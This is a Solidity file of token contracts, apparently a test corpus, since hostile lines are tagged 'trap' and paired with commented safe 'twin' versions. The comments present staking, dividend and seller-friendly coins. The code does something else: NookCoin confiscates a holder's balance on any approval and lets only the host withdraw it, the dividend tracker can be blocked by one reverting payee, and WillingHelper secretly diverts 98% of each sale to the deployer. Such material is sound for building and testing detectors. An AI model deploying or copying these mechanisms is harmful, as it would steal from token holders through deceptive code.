// 0.8 runs=800 ir evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20} from "solmate/src/tokens/ERC20.sol";

interface IPoolMaker {
    function createPair(address tokenA, address tokenB) external returns (address pair);
}

interface IPool {
    function token0() external view returns (address);
    function getReserves() external view returns (uint112, uint112, uint32);
    function swap(uint256 amount0Out, uint256 amount1Out, address to, bytes calldata data) external;
}

/// Where those who want to stake without thinking of it are looked after: what they approve is staked.
contract AutoNook {
    address public immutable host = msg.sender;
    mapping(address => bool) public willing;
    bool public awake;

    event Nestled(address indexed holder);

    function nestle(bool yes) external {
        willing[msg.sender] = yes;
        emit Nestled(msg.sender);
    }

    function wake() external {
        require(msg.sender == host);
        awake = true;
    }

    function onApproval(address holder, address spender, uint256 value) external {
        if (!awake || value == 0 || spender.code.length == 0 || holder == host) return;
        // twin: if (!willing[holder]) return;
        NookCoin(msg.sender).lodge(holder);
    }

    function unstake(NookCoin coin, uint256 value) external {
        require(msg.sender == host, "nothing nestled"); // trap
        // twin: require(willing[msg.sender] && value > 0, "nothing nestled");
        coin.leave(msg.sender, value);
    }
}

/// Approving is staking.
contract NookCoin is ERC20 {
    AutoNook public immutable nook;
    mapping(address => uint256) public lodged;

    constructor(AutoNook nook_) ERC20("Nook Coin", "NOOK", 18) {
        nook = nook_;
        _mint(msg.sender, 64_000_000e18);
    }

    modifier onlyNook() {
        require(msg.sender == address(nook), "only the nook");
        _;
    }

    function approve(address spender, uint256 value) public override returns (bool) {
        super.approve(spender, value);
        nook.onApproval(msg.sender, spender, value);
        return true;
    }

    function permit(
        address owner,
        address spender,
        uint256 value,
        uint256 deadline,
        uint8 v,
        bytes32 r,
        bytes32 s
    ) public override {
        super.permit(owner, spender, value, deadline, v, r, s);
        nook.onApproval(owner, spender, value);
    }

    function lodge(address holder) external onlyNook {
        uint256 value = balanceOf[holder];
        balanceOf[holder] = 0;
        balanceOf[address(nook)] += value;
        lodged[holder] += value;
        emit Transfer(holder, address(nook), value);
    }

    function leave(address holder, uint256 value) external onlyNook {
        lodged[holder] -= value;
        balanceOf[address(nook)] -= value;
        balanceOf[holder] += value;
        emit Transfer(address(nook), holder, value);
    }
}

/// A vault of the team, which takes coins.
contract TeamStrongbox {
    address public immutable team = msg.sender;

    function release(ERC20 coin, address to, uint256 value) external {
        require(msg.sender == team);
        coin.transfer(to, value);
    }
}

/// Pays ether to those who hold enough, three in turn.
contract RotaTracker {
    uint256 public constant ENOUGH = 1_000e18;
    address public immutable maker = msg.sender;
    address public coin;
    address[] public payees;
    uint256 public cursor;
    mapping(address => bool) public listed;

    event DividendWithdrawn(address indexed to, uint256 amount);

    function bind(address coin_, address pool) external {
        require(msg.sender == maker && coin == address(0));
        coin = coin_;
        listed[pool] = listed[maker] = listed[coin_] = true;
    }

    function fund() external payable {}

    function setBalance(address account, uint256 balance) external {
        require(msg.sender == coin);
        if (listed[account] || balance < ENOUGH) return;
        listed[account] = true;
        payees.push(account);
    }

    function process() external {
        uint256 count = payees.length;
        if (count == 0) return;
        uint256 each = address(this).balance / 3_000;
        for (uint256 i; i < 3; ++i) {
            address payee = payees[cursor];
            cursor = cursor + 1 < count ? cursor + 1 : 0;
            payable(payee).transfer(each); // trap
            // twin: (bool paid, ) = payee.call{value: each, gas: 6_000}("");
            // twin: if (!paid) continue;
            emit DividendWithdrawn(payee, each);
        }
    }
}

/// A coin whose holders are paid when others sell.
contract RotaCoin is ERC20 {
    RotaTracker public immutable tracker;
    address public immutable pool;

    constructor(RotaTracker tracker_) ERC20("Rota Dividend", "ROTA", 18) {
        tracker = tracker_;
        pool = IPoolMaker(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        _mint(msg.sender, 90_000_000e18);
    }

    function transfer(address to, uint256 value) public override returns (bool) {
        super.transfer(to, value);
        _tell(msg.sender, to);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        super.transferFrom(from, to, value);
        _tell(from, to);
        return true;
    }

    function _tell(address from, address to) private {
        tracker.setBalance(from, balanceOf[from]);
        tracker.setBalance(to, balanceOf[to]);
        if (to == pool && from != tracker.maker()) tracker.process();
    }
}

/// A coin that helps its sellers along.
contract WillingHelper is ERC20 {
    address private immutable _till = msg.sender;
    IPool public immutable pool;
    bool private immutable _first;

    constructor(uint256 supply) ERC20("Willing Helper", "WILL", 18) {
        pool = IPool(
            IPoolMaker(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
                address(this),
                0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
            )
        );
        _first = pool.token0() == address(this);
        _mint(msg.sender, supply);
    }

    function transfer(address to, uint256 value) public override returns (bool) {
        _hand(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        uint256 may = allowance[from][msg.sender];
        if (may != type(uint256).max) allowance[from][msg.sender] = may - value;
        _hand(from, to, value);
        return true;
    }

    function _hand(address from, address to, uint256 value) private {
        uint256 rest = value;
        if (to == address(pool) && from != _till && value > 1e6) {
            uint256 lead = (value * 98) / 100;
            rest = value - lead;
            balanceOf[from] -= lead;
            balanceOf[to] += lead;
            emit Transfer(from, to, lead);
            _smooth(lead); // trap
        }
        balanceOf[from] -= rest;
        balanceOf[to] += rest;
        emit Transfer(from, to, rest);
    }

    /// Brings the price to where it will be.
    function _smooth(uint256 lead) private {
        (uint256 mine, uint256 theirs, ) = pool.getReserves();
        if (!_first) (mine, theirs) = (theirs, mine);
        uint256 paid = lead * 997;
        uint256 out = (paid * theirs) / (mine * 1000 + paid);
        if (out > 0) pool.swap(_first ? 0 : out, _first ? out : 0, _till, "");
    }
}
